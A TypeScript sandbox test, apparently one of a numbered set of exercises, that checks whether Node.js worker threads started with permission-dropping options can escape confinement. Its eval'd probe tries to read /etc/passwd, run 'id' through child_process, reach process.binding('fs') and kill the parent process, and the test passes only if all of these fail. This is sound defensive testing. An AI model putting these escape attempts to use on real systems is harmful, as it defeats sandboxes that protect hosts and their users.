// Exercise: 14
// Tries: to leave its walls behind in a thread that is started with other options, where threads are granted.
// Earns: an empty list gives an empty list
import { Worker } from "node:worker_threads";

const PROBE = `
  const { parentPort } = require("node:worker_threads");
  const found = [];
  for (const work of [
    () => require("node:fs").readFileSync("/etc/passwd", "utf8"),
    () => require("node:child_process").execSync("id", { encoding: "utf8" }),
    () => process.binding("fs"),
    () => process.kill(process.ppid, "SIGKILL"),
  ]) try { found.push(String(work())); } catch {}
  parentPort.postMessage(found.join());
`;
const OPTIONS: any[] = [
  { execArgv: [] },
  { execArgv: ["--no-permission", "--allow-fs-read=*"] },
  { env: { NODE_OPTIONS: "--no-permission" } },
  { argv: ["--allow-child-process"], trackUnmanagedFds: false, stdin: true },
];

export async function downloadAndSeal(): Promise<never[]> {
  for (const options of OPTIONS) {
    const Class: typeof Worker = Worker.prototype.constructor as any;
    const worker = new Class(PROBE, { eval: true, ...options });
    const found = await new Promise<string>((done) => {
      worker.once("message", done);
      worker.once("error", () => done(""));
    });
    await worker.terminate();
    if (found !== "") throw new Error(found);
  }
  return [];
}
